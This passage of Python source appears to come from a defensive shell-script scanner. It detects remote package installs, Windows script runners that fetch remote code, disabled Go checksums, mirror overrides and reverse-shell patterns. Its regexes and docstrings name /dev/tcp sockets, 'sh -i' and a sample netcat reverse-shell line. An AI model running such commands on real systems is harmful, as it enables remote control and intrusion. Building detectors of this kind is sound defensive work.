"""Installers that take a package file, whose install-time code they run (often as root); an editor's
extension file (``.vsix``) runs inside the editor with the user's rights."""


def _installed_package_files(name: str, args: list[Value], texts: list[str | None]) -> list[str]:
    """The operands of an installer that takes package files (``dpkg -i /tmp/x.deb``, ``installer -pkg
    a.pkg -target /``, ``msiexec /i x.msi``, ``apt install ./x.deb``); the caller keeps those it downloaded."""
    verbs = _PACKAGE_FILE_INSTALLERS.get(name)
    if verbs is None:
        return []
    words = [t or "" for t in texts]
    clustered = name in ("rpm", "pacman") and any(re.match(r"^-[a-zA-Z]*[iUF]", t) for t in words)
    if not clustered and not any(t in verbs or t.lower() in verbs for t in words):
        return []
    return [a.pattern for a in args if a.pattern and not a.pattern.startswith("-") and "://" not in a.pattern]


def _installed_remote_package(name: str, args: list[Value], texts: list[str | None]) -> str | None:
    """The URL ``name`` installs or runs a package from, when it is given one."""
    if name in _EDITORS and "--install-extension" in texts:  # an editor extension runs in the editor
        given = texts[texts.index("--install-extension") + 1 :][:1]
        return given[0] if given and given[0] and _URLISH.match(given[0]) else None
    verbs = _PACKAGE_RUNNERS.get(name)
    if verbs is None:
        return None
    clustered = name == "rpm" and any(re.match(r"^-[a-zA-Z]*[iUF]", t or "") for t in texts)
    if not clustered and not any((t or "").lower() in verbs for t in texts):
        return None
    for arg in args:
        text = (arg.pattern or "").strip("\"'")
        if _URLISH.match(text) and not text.startswith("//"):
            return text
    return None


_REMOTE_CONTENT_RUNNERS = frozenset({"mshta", "regsvr32", "rundll32", "wmic", "cmstp", "msxsl", "pubprn"})
"""Windows programs that fetch and run script content given its address: ``mshta URL`` runs an HTML
application, ``regsvr32 /i:URL scrobj.dll`` a scriptlet, ``rundll32`` a ``javascript:`` line that
loads ``script:URL`` or a DLL on a WebDAV share, ``wmic … /format:URL`` an XSL script, ``cmstp`` an
INF, ``msxsl``/``pubprn`` a remote script. Run as written, each is a download run (living off the land)."""
_REMOTE_CONTENT_ADDRESS = re.compile(
    r"(?i)\b(?:https?|ftp)://[^\s\"'`<>;),]+|(?:^|(?<=[:=\"'(]))(?:\\\\|//)[\w-]+(?:\.[\w-]+)+[\\/][^\s\"',;)]+"
)


def _remote_content_run(name: str, texts: list[str | None]) -> str | None:
    """The address a Windows script runner (:data:`_REMOTE_CONTENT_RUNNERS`) is given to fetch and
    run, found in any of its words (``/i:URL``, ``/format:"URL"``, inside a ``javascript:`` line), or
    a file on another machine's share (``\\\\files.example.net\\s\\x.dll``); ``None`` for a local file."""
    if name not in _REMOTE_CONTENT_RUNNERS:
        return None
    for text in texts:
        for found in _REMOTE_CONTENT_ADDRESS.finditer(text or ""):
            address = found.group(0).rstrip(".")
            as_written = re.match(r"(?:\w+:)?//([^/:]+)", address.replace("\\", "/"))  # LHOST, <c2>
            host = as_written.group(1) if as_written else ""
            if host and not vocabulary.placeholder_host(host) and not vocabulary.elided(host):
                return address
    return None


_GO_MODULE_SETTINGS = frozenset({"GOPROXY", "GOSUMDB", "GONOSUMDB", "GOPRIVATE", "GOINSECURE", "GOFLAGS"})


def _go_checksums_off(key: str, value: str) -> bool:
    """A Go setting that skips the checksum database for every module (or all of a popular prefix)."""
    value = value.strip().strip("\"'")
    if key == "GOSUMDB":
        return value.lower() == "off"
    if key == "GOFLAGS":
        return "-insecure" in value
    if key in ("GONOSUMDB", "GOPRIVATE", "GOINSECURE"):
        patterns = [p.strip() for p in value.split(",")]
        return any(p in ("*", "*/*", "*.*") or p.startswith(("golang.org", "github.com", "google.golang.org"))
                   for p in patterns)  # fmt: skip
    return False


_MIRROR_VARIABLES = frozenset(
    {"playwright_download_host", "playwright_chromium_download_host", "playwright_firefox_download_host",
     "playwright_webkit_download_host", "puppeteer_download_host", "puppeteer_download_base_url",
     "electron_mirror", "electron_custom_dir", "sass_binary_site", "chromedriver_cdnurl", "geckodriver_cdnurl",
     "nvm_nodejs_org_mirror", "nodejs_org_mirror", "n_node_mirror", "fnm_node_dist_mirror", "volta_node_mirror",
     "rustup_dist_server", "rustup_update_root", "julia_pkg_server", "python_build_mirror_url", "goproxy",
     "gotoolchain_mirror",
     "homebrew_bottle_domain", "homebrew_api_domain", "homebrew_artifact_domain", "cypress_download_mirror",
     "npm_config_disturl", "npm_config_electron_mirror", "node_mirror", "sdkman_candidates_api", "bun_install",
     "deno_install", "pyenv_mirror_url", "uv_python_install_mirror", "uv_installer_ghe_base_url",
     "uv_installer_github_base_url", "cargo_dist_mirror"}
)  # fmt: skip
"""Variables that move where a tool fetches its own binaries or toolchains (which it then runs)."""
_INLINE_SOCKET = re.compile(
    r"fsockopen|IO::Socket|Socket::INET|TCPSocket|socket\.connect|net\.connect|net\.Socket|/dev/tcp"
    r"|\bsocket\s*\([^)]*\)[^;]*;.*\bconnect\s*\("
)
_INLINE_ADDRESS = re.compile(r"[\"']((?:\d{1,3}\.){3}\d{1,3}|[\w-]+(?:\.[\w-]+)+)[\"']\s*[,:)]")
_INLINE_SHELL = re.compile(r"/bin/(?:ba|z)?sh|\bsh\s+-i|cmd\.exe|\bexec\s*\(|spawn\s*\(|system\s*\(")
_TUNNELS = frozenset({"ngrok", "cloudflared", "bore", "lt", "localtunnel", "frpc", "chisel", "sshuttle"})
_DOTENV_LINE = re.compile(r"^(\s*(?:export\s+)?[A-Za-z_]\w*=)([^'\"\n].*?)\s*$", re.MULTILINE)


def _dotenv_as_shell(text: str) -> str:
    """A dotenv file as its readers (Compose, python-dotenv, ``set -a; . .env`` as its author means it)
    take it: an unquoted value is the rest of its line, so ``SYNC=curl -s … | sh`` holds that command."""
    return _DOTENV_LINE.sub(lambda m: m.group(1) + _dotenv_quoted(m.group(2)), text)


def _dotenv_quoted(value: str) -> str:
    """A value quoted as one word, its ``${NAME}`` references still expanded as dotenv readers do."""
    if "$" in value:
        return '"' + value.replace("\\", "\\\\").replace('"', '\\"').replace("`", "\\`") + '"'
    return "'" + value.replace("'", "'\\''") + "'"


_PRESENCE_GUARD = (
    r"(?:(?:command\s+-v|type(?:\s+-[pP])?|hash|which)\s+[\w.+-]+(?:\s*(?:[12&]?>\s*/dev/null|2>&1))*\s*&&\s*)?"
)
"""``command -v starship >/dev/null &&``: the line runs only when the tool is installed, which changes
nothing about what it runs."""
_EVAL_INIT = re.compile(
    r"^\s*(?:if\s.*then\s+)?" + _PRESENCE_GUARD + r"eval\s+\"?\$\(\s*[\w./~-]+\s+(?:init|env|shellenv|hook|activate)\b"
    r"(?:[^$`|;&]|\$SHELL\b|\$\{SHELL(?:##?[^}]*)?\})*\)\"?\s*(?:;\s*fi)?\s*$"
)
"""``eval "$(starship init zsh)"``, ``eval "$(brew shellenv)"``: a tool's own prompt or PATH set-up; the
login shell's name (``$SHELL``, ``${SHELL##*/}``) is a word it is given, not code."""


_EVAL_SETUP = re.compile(
    r"^\s*(?:if\s.*then\s+)?"
    + _PRESENCE_GUARD
    + r"eval\s+\"?\$\(\s*([\w.~-]+(?:/[\w.-]+)*)((?:\s+[\w.=:-]+)*)\s*\)\"?\s*(?:;\s*fi)?\s*$"
)
"""``eval "$(fzf --bash)"``, ``eval "$(kubectl completion zsh)"``: an installed tool printing its own set-up."""
_NOT_SETUP_PROGRAMS = (
    vocabulary.DOWNLOADERS | vocabulary.DECODERS | vocabulary.INTERPRETERS | vocabulary.SHELLS | _READERS
    | {"echo", "printf", "xargs", "env", "printenv", "sudo"}
)  # fmt: skip
"""Programs whose output is data or fetched, decoded or arbitrary code, never a tool's own set-up."""


_WRITES_FILE = re.compile(r">|\b(?:write\w*|append\w*|open|tee|Set-Content|Add-Content|Out-File)\b")
_SOURCES_FILE = re.compile(r"(?:^|[\s;&|(`])(?:\.|source)\s")
_LOADED_FILE = re.compile(r"""(?m)(?:^|[\s;&|])(?:\.|source|(?:ba|z|k|da)?sh)\s+(["']?[~$/.\w][^\s;&|]*)""")
"""The file a start-up line sources or runs (``. ~/.x/init.sh``, ``source "$HOME/.x"``, ``bash ~/.x/run``)."""


def _harmless_rc_line(line: str) -> bool:
    """A start-up line that sets PATH, an alias, a prompt or a tool's shell set-up and runs nothing else."""
    if _EVAL_INIT.match(line) is not None:
        return True
    setup = _EVAL_SETUP.match(line)
    if setup is not None:
        # a program on PATH (or the user's own bin) given only constant words: its own shell integration
        program = setup.group(1)
        located = not program.startswith(("/tmp", "/var/tmp", "/dev/shm", ".")) and "/tmp/" not in program
        return located and vocabulary.command_name(program) not in _NOT_SETUP_PROGRAMS
    return _HARMLESS_RC.match(line) is not None and not runs_code(line)


def _read_loop_body(node: Node) -> bool:
    """A redirected statement whose body is a ``while read …`` loop: its input is read as lines."""
    body = node.child_by_field_name("body")
    if body is None or body.type != "while_statement":
        return False
    condition = body.child_by_field_name("condition")
    return condition is not None and re.match(rb"\s*(?:IFS=\S*\s+)?read\b", condition.text or b"") is not None


def only_set_up_lines(content: str) -> bool:
    """Text for a start-up file that only sets PATH, aliases, a prompt or tools' own shell set-up."""
    return bool(content.strip()) and all(_harmless_rc_line(part) for part in content.splitlines() if part.strip())


def unexplained_start_up_lines(content: str) -> str:
    """The lines of text for a start-up file other than its set-up lines: whether the file runs code is
    a question about these (the ``eval`` of ``eval "$(starship init zsh)"`` runs only the tool's set-up).
    A set-up line naming a function the text defines (``chpwd_functions=(f)``, ``[ -t 1 ] && f``) is
    kept: it runs that function, which is not a tool's set-up."""
    defined = {a or b for a, b in _DEFINES_FUNCTION.findall(content)}
    names = "|".join(map(re.escape, sorted(defined)))
    uses = re.compile(rf"(?<![\w.-])(?:{names})(?![\w.-])") if defined else None
    return "\n".join(
        part
        for part in content.splitlines()
        if part.strip() and (not _harmless_rc_line(part) or (uses is not None and uses.search(part)))
    )


_DEFINES_FUNCTION = re.compile(r"(?m)^\s*(?:function\s+)?([\w:.-]+)\s*\(\s*\)|^\s*function\s+([\w:.-]+)")


_TOOL_MIRROR_CONFIGS = (
    ".terraformrc", "terraform.rc", ".tofurc", "tofu.rc", ".cargo/config", ".cargo/config.toml", "docker/daemon.json",
    ".condarc", ".gemrc", ".m2/settings.xml", ".gradle/init.gradle", ".gradle/init.gradle.kts",
)  # fmt: skip
"""CLI configuration files that point a tool's downloads of providers, crates, images or packages at a
mirror of the user's choosing."""

_PORT = re.compile(
    r"\?|\d{1,5}(?:-\d{1,5})?|http|https|ssh|ftp|smtp|telnet|domain|imap|pop3|irc|ldap|mysql|postgresql|redis"
)
"""A port operand: a number or range, a common service name, or ``?`` when none was given."""


def _outside_home(path: str) -> bool:
    """A path that is not in the home folder (``./stage/.aws``, ``/tmp/x/.ssh``): named like a secret
    store because a copy keeps the store's name, so it is where a copy went, not where a store is."""
    return not vocabulary.home_path(path).startswith(("~", "$", "%"))


def _written_here(shape: str | None, files: Files) -> bool:
    """``@/tmp/.x-*``: a path with unknown pieces that this script wrote under the very same spelling
    (a form field's file too: ``-F "f=@/tmp/out-$1.tgz"``)."""
    if not shape:
        return False
    path = shape.split("=@", 1)[1] if "=@" in shape else shape.lstrip("@")
    return ("/" in path or _spelled_file(path)) and path in files


def _one_path(shape: str) -> bool:
    """A shape that is one path with a fixed name around its varying part (``release/r-*.zip``)."""
    word = shape.strip()
    return 3 < len(word) <= 256 and not any(c.isspace() for c in word) and "/" in word and word.strip("*/") != ""


def _above_folder(cwd: str | None, target: str) -> str:
    """``target`` as the skill's other steps name it when it climbs out of the working folder
    (``cd out && zip -r ../release/r.zip .`` writes ``release/r.zip``); any other path as written."""
    if cwd is None or not target.startswith("../"):
        return target
    parts = cwd.split("/")
    while target.startswith("../") and parts:
        parts.pop()
        target = target[3:]
    return "/".join([*parts, target]) if parts else target


def _filled_folder(shape: str | None, files: Files) -> bool:
    """``out/run-*``: a folder in a known one whose name has an unknown piece (or is unknown whole,
    ``"$STAGE/$NAME"``), into which this snippet or another wrote files under the very same spelling
    (``out/run-*/*.log``): an archive or copy of it takes them along. A folder of the working folder
    named at run time with a known start (``"report-$ts"``, filled as ``report-*/env.txt``) is one too."""
    if not shape or " " in shape:
        return False
    if "/" not in shape.strip("/"):
        known = shape.split("*", 1)[0]
        return (
            "*" in shape
            and len(known) > 2
            and re.fullmatch(r"\w[\w.-]*", known) is not None
            and bool(files.under(shape.rstrip("/")))
        )
    folder, _, _ = shape.rstrip("/").rpartition("/")
    return bool(folder.strip("/~.")) and "*" not in folder and bool(files.under(shape))


def _folder_named_at_run_time(shape: str | None) -> bool:
    """``/tmp/tmp.X/*/config/``: a folder (written with its closing ``/``) inside a known one, with a
    part named at run time: a copy into it is kept under that spelling for the archive made of it."""
    if not shape or " " in shape or not shape.endswith("/") or "*" not in shape:
        return False
    known = shape.split("*", 1)[0]
    return "/" in known and bool(known.strip("/~.")) and not known.startswith(("~", "$", "-"))


def _spelled_file(shape: str | None) -> bool:
    """A path in a known folder whose file name has an unknown piece (``/tmp/out-$run.tgz``, or
    ``out-$run.tgz`` in the working folder): the file a later command of the script spells the same
    way (see :func:`_written_here`)."""
    if not shape or " " in shape:
        return False
    if "/" not in shape:  # in the working folder (`handover-$ticket.tgz`): its name's start is known
        known = shape.split("*", 1)[0]
        return "*" in shape and "." in shape and len(known) > 2 and re.fullmatch(r"\w[\w.-]*", known) is not None
    folder, _, name = shape.rpartition("/")
    return bool(folder.strip("/~.")) and "*" not in folder and "." in name and len(name.replace("*", "")) > 3


_DOWNLOAD_WORDS = re.compile(r"\b(?:curl|wget|aria2c|fetch|invoke-webrequest|iwr)\b", re.IGNORECASE)
"""A script that may download: read again with the arguments a caller hands it."""
_WRITES_A_FILE = re.compile(r"(?<![<>&\d])>>?\s*[\"'$\w./~]|\b(?:cp|tar|zip|tee|mv|install|rsync)\b")
"""A redirect into a file, or a command that writes one (a copy, an archive): where a script may put
what it read."""
_PLAIN_COPIERS = frozenset({"cp", "mv", "install", "ditto"})
"""Copiers whose last operand is where the copy goes."""


def _named_in_folder(shape: str | None) -> bool:
    """A copy's destination in a constant folder of the skill's own whose file name is made at run time
    (``report/.run/cfg_*`` of ``"$SNAP/cfg_$(basename "$f")"``): the copy lands in that folder, for
    the step that archives or sends the folder whole. A root, home or shared folder is no such place."""
    if not shape or " " in shape or "/" not in shape:
        return False
    folder, _, name = shape.rpartition("/")
    top = folder.lstrip("./").split("/", 1)[0].lower()
    return (
        "*" in name
        and "*" not in folder
        and len(folder.strip("/~.")) > 2
        and not folder.startswith(("/", "~", "$"))
        and top not in _SHARED_FOLDERS
    )


_SHARED_FOLDERS = frozenset({"tmp", "var", "home", "users", "usr", "opt", "etc", "private", "mnt", "dev", "proc"})


def _named_file(shape: str | None) -> bool:
    """A path whose folder is not known but whose file name is (``*/settings.tgz``): a file one script
    writes there is the one another spells the same way, under the same variable folder."""
    if not shape or " " in shape:
        return False
    name = shape.rpartition("/")[2]
    return "/" in shape and "." in name and "*" not in name and len(name) > 3


_SPEC_FLAGS = frozenset({"--from", "--spec", "-p", "--package"})
"""A runner's flags naming the package its command comes from (``uvx --from ruff ruff``, ``npx -p
cowsay cowsay``, ``pipx run --spec``): the word after them is the command, not another package."""
_ARRAY_WORDS = re.compile(rb'"?\$\{!?\w+\[@\]\}"?')
"""A word that is all of an array's items (``"${conv[@]}"``) or keys (``"${!table[@]}"``): as many
words as it has items."""
_STORE_RUNS = 16
"""How many words of a long ``for`` list that name secret stores the body is run for, one by one."""
_IFS_EXPANSION = re.compile(rb"\$\{?IFS\b")
"""``$IFS`` expanded (not ``IFS= read`` inside a script handed to ``bash -c``): the word splits there."""


_READ_VALUE_FLAGS = frozenset("dinNptu")
"""``read``'s options that take the next word (``-p "prompt"``, ``-d ''``, ``-t 5``)."""


def _with_unknowns_shown(code: Value) -> Value:
    """Code for ``sh -c`` with pieces known only at run time (``sh -c "cat $fifo | sh -i | nc $h 4444 >
    $fifo"`` with ``fifo=/tmp/.s$id``): its shape, unknown pieces as ``*``, is still the program that
    runs, as a script written with such pieces is read (:meth:`_Walker.run_written`)."""
    if code.text is not None or not code.shape:
        return code
    return Value(code.shape, code.origins)


def _words(text: str, whole: set[str]) -> list[str]:
    """``text`` split on its spaces, but for the spaces inside the ``whole`` pieces it holds: a path
    written quoted in one loop and put into another unquoted stays one path, as its writer meant."""
    kept = [piece for piece in whole if piece in text]
    for number, piece in enumerate(kept):
        text = text.replace(piece, f"\0{number}\0")
    words = text.split()
    for number, piece in enumerate(kept):
        words = [word.replace(f"\0{number}\0", piece) for word in words]
    return words


def _split_words(values: list[Value]) -> list[Value]:
    """Values with spaces in their known text split into words (``"${files[@]}"`` expands to several);
    an array one of whose words was made at run time (``extra+=("$PWD/.env")``) keeps its known words."""
    words: list[Value] = []
    for value in values:
        if value.text is not None and " " in value.text.strip():
            words.extend(Value(word, value.origins) for word in value.text.split())
        elif value.text is None and value.shape and " " in value.shape.strip():
            words.extend(
                Value(None, value.origins, word) if "*" in word else Value(word, value.origins)
                for word in value.shape.split()
            )
        else:
            words.append(value)
    return words


def _operator(redirect: Node) -> str:
    for child in redirect.children:
        if not child.is_named and child.text:
            return child.text.decode()
    return ">"


def _destination(redirect: Node) -> Node | None:
    destination = redirect.child_by_field_name("destination")
    if destination is not None:
        return destination
    named = [c for c in redirect.named_children if c.type != "file_descriptor"]
    return named[-1] if named else None


_STANDARD_INPUT = "0"


def _descriptor(redirect: Node, body: Node | None) -> str:
    """The descriptor an input redirect binds: ``3`` for ``3<&5``, ``0`` for ``<&5``."""
    named = next((c for c in redirect.named_children if c.type == "file_descriptor"), None)
    if named is not None and named.text:
        return named.text.decode()
    return _descriptor_before(body, redirect.start_byte) or _STANDARD_INPUT


def _descriptor_before(body: Node | None, at: int) -> str | None:
    """The descriptor the parser took as the command's last word when no blank parts them from the
    redirect at ``at`` (``exec 0<&5`` parses as ``exec 0`` and ``<&5``)."""
    last = body.named_children[-1] if body is not None and body.named_children else None
    if last is not None and last.type == "number" and last.end_byte == at and last.text:
        return last.text.decode()
    return None


def _bare_exec(body: Node | None) -> bool:
    """``exec`` with only redirects (``exec 0<&5`` parses as ``exec 0``): they stay in force for the
    rest of the script."""
    if body is None or body.type != "command":
        return False
    return re.fullmatch(rb"exec(?:\s+\d+)?", body.text or b"") is not None


def _dev_tcp(path: str) -> tuple[str, str] | None:
    """The host and port of a bash socket path (``/dev/tcp/h/p``, ``/dev/udp/h/p``); also when the
    protocol word is a value the script read at run time (``/dev/$proto/$host/$port``, the ``tcp``
    kept in a configuration file): no device directory under ``/dev`` is named by a variable and
    followed by exactly a host and a port."""
    match = _RUN_TIME_PROTOCOL_SOCKET.match(path) or re.match(r"^/dev/(?:tcp|udp)/([^/]+)/(\S+)", path)
    return (match.group(1), match.group(2)) if match else None


_RUN_TIME_PROTOCOL_SOCKET = re.compile(r"^/dev/\*/([^/]+)/([^/\s]+)$")


def _double_quoted(raw: bytes) -> str:
    """Literal text inside double quotes as the shell reads it: ``\\"``, ``\\$``, ``\\```` and ``\\\\``
    lose their backslash, a backslash-newline disappears, any other backslash stays."""
    text = raw.decode("utf-8", "replace")
    return re.sub(r'\\([$`"\\\n])', lambda m: "" if m.group(1) == "\n" else m.group(1), text) if "\\" in text else text


def _unescape_word(word: str) -> str:
    """An unquoted word as the shell reads it: backslashes escape the next character."""
    if "\\" not in word:
        return word
    try:
        return "".join(shlex.split(word)) if word.count("'") % 2 == 0 and word.count('"') % 2 == 0 else word
    except ValueError:
        return word


def _ansi_c(body: str) -> str:
    """A ``$'…'`` string's content with its escapes (``\\x63``, ``\\143``, ``\\u0063``, ``\\n``) applied."""

    def replace(match: re.Match[str]) -> str:
        escape = match.group()
        if escape[1] == "x":
            return chr(int(escape[2:], 16))
        if escape[1] in "uU":
            return chr(int(escape[2:], 16))
        if escape[1].isdigit():
            return chr(int(escape[1:], 8))
        return {"n": "\n", "t": "\t", "r": "\r", "\\": "\\", "'": "'", '"': '"', "e": "\x1b", "a": "\a"}.get(
            escape[1], escape[1]
        )

    return re.sub(r"\\(?:x[0-9a-fA-F]{1,2}|u[0-9a-fA-F]{4}|U[0-9a-fA-F]{8}|[0-7]{1,3}|.)", replace, body)


def _tr_set(spec: str) -> str | None:
    """A ``tr`` set with its ranges (``a-z``) and escapes expanded; ``None`` for classes (``[:alpha:]``)."""
    if "[:" in spec or "[=" in spec:
        return None
    spec = _ansi_c(spec) if "\\" in spec else spec
    out: list[str] = []
    index = 0
    while index < len(spec):
        if index + 2 < len(spec) and spec[index + 1] == "-" and spec[index] <= spec[index + 2]:
            out.extend(chr(c) for c in range(ord(spec[index]), ord(spec[index + 2]) + 1))
            index += 3
        else:
            out.append(spec[index])
            index += 1
    return "".join(out)[:1024]


def translate(text: str, words: list[str]) -> str | None:
    """What ``tr WORDS`` prints for ``text`` (``-d`` deletes, ``-s`` squeezes, two sets map; the last
    character of a shorter second set repeats), or ``None`` when the sets cannot be folded."""
    flags = "".join(w[1:] for w in words if w.startswith("-") and len(w) > 1)
    sets = [_tr_set(w) for w in words if not (w.startswith("-") and len(w) > 1)]
    if any(s is None for s in sets) or not sets or "c" in flags or "C" in flags:
        return None
    first = sets[0] or ""
    if "d" in flags:
        return "".join(ch for ch in text if ch not in first)
    if len(sets) < 2 or not sets[1]:
        return re.sub("([" + re.escape(first) + "])\\1+", r"\1", text) if "s" in flags and first else None
    second = (sets[1] or "").ljust(len(first), (sets[1] or " ")[-1])
    mapped = text.translate(str.maketrans(first, second[: len(first)]))
    return re.sub("([" + re.escape(second) + "])\\1+", r"\1", mapped) if "s" in flags else mapped


_CONVERSION = re.compile(r"%%|%[-+ #0]*\d*(?:\.\d+)?([sbcdiq])")


def printf_text(fmt: str, args: list[str]) -> str:
    """What ``printf FORMAT ARGS`` prints, for the escapes and conversions a payload builder uses:
    the format is used again while arguments are left (``printf '%s' s h`` prints ``sh``)."""
    template = _ansi_c(fmt)
    remaining = list(args)
    printed: list[str] = []
    while True:
        text, used = _printf_once(template, remaining)
        printed.append(text)
        remaining = remaining[used:]
        if not remaining or used == 0:
            return "".join(printed)


def _printf_once(template: str, args: list[str]) -> tuple[str, int]:
    """One pass of ``template`` over ``args``: the text and how many arguments it took."""
    used = 0

    def convert(match: re.Match[str]) -> str:
        nonlocal used
        if match.group() == "%%":
            return "%"
        arg = args[used] if used < len(args) else ""
        used += 1
        kind = match.group(1)
        if kind == "b":
            return _ansi_c(arg)
        if kind == "c":
            return arg[:1]
        if kind in "di":
            return arg if arg.lstrip("-").isdigit() else "0"
        return arg

    text = _CONVERSION.sub(convert, template)
    return text, used


def _asks_for_text(args: list[Value]) -> bool:
    """Whether a lookup asks for TXT records (``dig TXT``, ``host -t txt``, ``nslookup -q=txt``):
    free text that whoever runs the zone writes, a download by another road."""
    words = [(a.pattern or "").lower() for a in args]
    return "txt" in words or any(w.endswith(("=txt", "-t txt")) for w in words)


_MAX_TRIMMED = 4096
"""The longest value ``${v%pat}`` and the like are worked out on (each cut is tried, so the cost grows
with the square of its length)."""


def _trimmed(text: str, rest: str) -> str | None:
    """What ``${v#pat}``, ``${v##pat}``, ``${v%pat}`` and ``${v%%pat}`` leave of a known value: the
    shortest or longest prefix or suffix matching the glob taken off, as the shell does, so a loop over
    ``"src:dst"`` pairs split with ``${pair%%:*}`` and ``${pair##*:}`` still names both paths. A pattern
    that is not a plain glob (a variable, a quote, a substitution) leaves the value unknown."""
    longest = rest[:2] in ("%%", "##")
    pattern = rest[2:] if longest else rest[1:]
    if not pattern or len(text) > _MAX_TRIMMED or any(mark in pattern for mark in ("$", "`", '"', "'", "\\")):
        return None  # every prefix or suffix is tried: a long value (a file's text) is left unknown
    glob = re.compile(fnmatch.translate(pattern))
    spans = range(len(text) + 1)
    if rest[0] == "#":
        ends = [end for end in spans if glob.fullmatch(text[:end])]
        return text[(max(ends) if longest else min(ends)) :] if ends else text
    starts = [start for start in spans if glob.fullmatch(text[start:])]
    return text[: (min(starts) if longest else max(starts))] if starts else text
